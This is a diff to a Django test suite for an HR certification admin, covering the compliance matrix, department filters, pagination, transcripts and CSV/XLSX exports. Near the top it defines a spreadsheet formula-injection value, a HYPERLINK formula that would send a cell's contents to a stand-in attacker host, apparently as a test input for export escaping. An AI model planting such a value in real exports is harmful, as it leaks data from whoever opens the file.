@@ -9,9 +9,10 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from certification import reports
+from certification.models import CertificateRule
 from courses import api as courses_api
-from courses.models import LessonProgress
-from quizzes.models import Attempt, AttemptStatus
+from courses.models import CoursePage, LessonProgress
+from quizzes.models import Attempt, AttemptStatus, QuizDraw, QuizPage
 from tests.hr.conftest import give_certificate, make_employee
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -67,19 +68,35 @@ def test_matrix_cells_take_every_state(org, rule, departments):
 def test_matrix_page_renders_the_states_and_filters_by_department(client, hr, org, departments):
     client.force_login(hr)
     html = client.get("/admin/hr/").content.decode()
-    assert states_in(html) == {
+    assert states_in(html) == {  # 销售部: nothing is required there, so not listed
         "D Missing": ["missing"], "E Expired": ["expired"], "F Overdue": ["overdue"], "A Current": ["current"],
-        "B Expiring": ["expiring"], "C Revoked": ["missing"], "G Sales": [""],
+        "B Expiring": ["expiring"], "C Revoked": ["missing"],
     }
     html = client.get("/admin/hr/", {"department": departments["ops-content"].pk}).content.decode()
     assert set(states_in(html)) == {"E Expired", "F Overdue"}
     html = client.get("/admin/hr/", {"department": departments["sales"].pk}).content.decode()
-    assert states_in(html) == {"G Sales": []}  # nothing is required there: no certificate column
+    assert states_in(html) == {}
+
+
+def test_a_certificate_not_required_of_someone_shows_a_dash(client, hr, org, rule, departments, quiz_setup):
+    """A second course, assigned to 销售部 only, adds a column: a dash for 运营部's people, and
+    销售部's person now appears, with a dash under the first course's certificate."""
+    catalog = quiz_setup.tree.course.get_parent()
+    sales_course = catalog.add_child(instance=CoursePage(title="销售课程", slug="sales"))
+    exam = sales_course.add_child(instance=QuizPage(title="Sales exam", slug="sales-exam",
+                                                    draws=[QuizDraw(bank=quiz_setup.bank, count=1)]))
+    CertificateRule.objects.create(slug="sales", title="销售证书", title_en="Sales Certificate", exam=exam)
+    courses_api.assign_course(sales_course, department=departments["sales"], due_date=timezone.localdate(), by=hr)
+    client.force_login(hr)
+    states = states_in(client.get("/admin/hr/").content.decode())
+    assert states["G Sales"] == ["", "missing"] and states["A Current"] == ["current", ""]
+    states = states_in(client.get("/admin/hr/", {"department": departments["sales"].pk}).content.decode())
+    assert states == {"G Sales": ["missing"]}  # only the columns required in the department
 
 
 def test_matrix_is_paginated_by_person(client, hr, org, departments):
-    for n in range(55):
-        make_employee(f"extra{n}@example.com", departments["sales"], display_name=f"Z{n:02d}")
+    for n in range(56):
+        make_employee(f"extra{n}@example.com", departments["ops-users"], display_name=f"Z{n:02d}")
     client.force_login(hr)
     first = states_in(client.get("/admin/hr/").content.decode())
     second = states_in(client.get("/admin/hr/", {"p": 2}).content.decode())
@@ -124,7 +141,7 @@ def test_transcript_shows_courses_attempts_and_certificates(client, hr, org, rul
     client.force_login(hr)
     html = client.get(f"/admin/hr/people/{person.pk}/").content.decode()
     courses = html[html.index('data-section="courses"'):]
-    assert "运营课程" in courses and "1/6 (17%)" in courses
+    assert "Operations Course" in courses and "1/6 (17%)" in courses  # titles in the admin's language
     attempts = html[html.index('data-section="attempts"'):]
     assert "Quiz" in attempts and "85.0%" in attempts
     certificates = html[html.index('data-section="certificates"'):]
@@ -169,7 +186,8 @@ def test_matrix_csv_export_has_one_row_per_person_and_certificate(client, hr, or
     lines = body(client.get("/admin/hr/", {"export": "csv"})).decode("utf-8-sig").splitlines()
     assert lines[0] == "employee_id,person,email,department,certificate,course,state,due_date,valid_until"
     assert len(lines) == 1 + 6  # everyone but sales, one required certificate each
-    assert any(line.startswith("overdue,F Overdue,overdue@example.com,内容运营组,模块一证书,运营课程,overdue,") for line in lines)
+    assert any(line.startswith("overdue,F Overdue,overdue@example.com,内容运营组,Module One Certificate,Operations Course,overdue,")
+               for line in lines)
 
 
 @pytest.mark.parametrize("url", ["/admin/hr/", "/admin/hr/summary/", "/admin/hr/expiring/", "/admin/hr/people/"])
@@ -194,7 +212,7 @@ def test_transcript_exports(client, hr, org):
     client.force_login(hr)
     response = client.get(f"/admin/hr/people/{org['current'].pk}/", {"export": "csv"})
     lines = body(response).decode("utf-8-sig").splitlines()
-    assert lines[0] == "section,item,status,score,date,detail" and lines[1].startswith("course,运营课程,")
+    assert lines[0] == "section,item,status,score,date,detail" and lines[1].startswith("course,Operations Course,")
     assert client.get(f"/admin/hr/people/{org['current'].pk}/", {"export": "xlsx"}).streaming
 
 
